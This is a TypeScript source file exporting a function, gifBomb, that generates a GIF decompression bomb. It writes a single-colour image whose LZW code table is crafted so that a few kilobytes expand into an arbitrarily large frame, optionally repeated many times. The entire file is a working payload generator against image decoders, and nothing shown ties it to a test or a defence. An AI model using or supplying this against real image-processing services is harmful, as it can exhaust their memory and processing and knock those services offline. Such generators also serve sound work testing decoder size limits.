interface Bomb {
  readonly screen: readonly [width: number, height: number]
  readonly frame: readonly [width: number, height: number]
  /** How often the frame stands in the file. */
  readonly frames?: number
}

const CLEAR = 4
const CODE_BITS = 12

/**
 * A GIF of one colour. Once the table is full each code of twelve bits stands for thousands of pixels, so that a few
 * kilobytes fill any frame.
 */
export function gifBomb({ screen, frame, frames = 1 }: Bomb): Buffer {
  const picture = Buffer.concat([
    Buffer.from([0x2c]),
    uint16(0, 0, ...frame),
    Buffer.from([0, 2]),
    subBlocks(compressed(frame[0] * frame[1])),
  ])
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    uint16(...screen),
    Buffer.from([0x81, 0, 0]),
    Buffer.alloc(12),
    ...Array.from({ length: frames }, () => picture),
    Buffer.from([0x3b]),
  ])
}

function uint16(...values: readonly number[]): Buffer {
  return Buffer.from(values.flatMap((value) => [value & 255, value >> 8]))
}

/** LZW codes for so many zeros: each new code is one zero longer than the one before. */
function compressed(count: number): Buffer {
  const bytes: number[] = []
  let bits = 0
  let bitCount = 0
  const write = (code: number, size: number) => {
    bits |= code << bitCount
    for (bitCount += size; bitCount >= 8; bitCount -= 8) {
      bytes.push(bits & 255)
      bits >>>= 8
    }
  }
  let size = 3
  let next = CLEAR + 2
  write(CLEAR, size)
  write(0, size)
  for (let written = 1, longest = 1; written < count; ) {
    if (next < 1 << CODE_BITS) {
      // The code that is being defined: the last string and one more zero.
      write(next, size)
      longest++
      next++
      if (next === 1 << size && size < CODE_BITS) size++
    } else write(next - 1, size)
    written += longest
  }
  write(0, 16)
  return Buffer.from(bytes)
}

function subBlocks(data: Buffer): Buffer {
  const parts: Buffer[] = []
  for (let at = 0; at < data.length; at += 255) {
    const part = data.subarray(at, at + 255)
    parts.push(Buffer.from([part.length]), part)
  }
  return Buffer.concat([...parts, Buffer.from([0])])
}
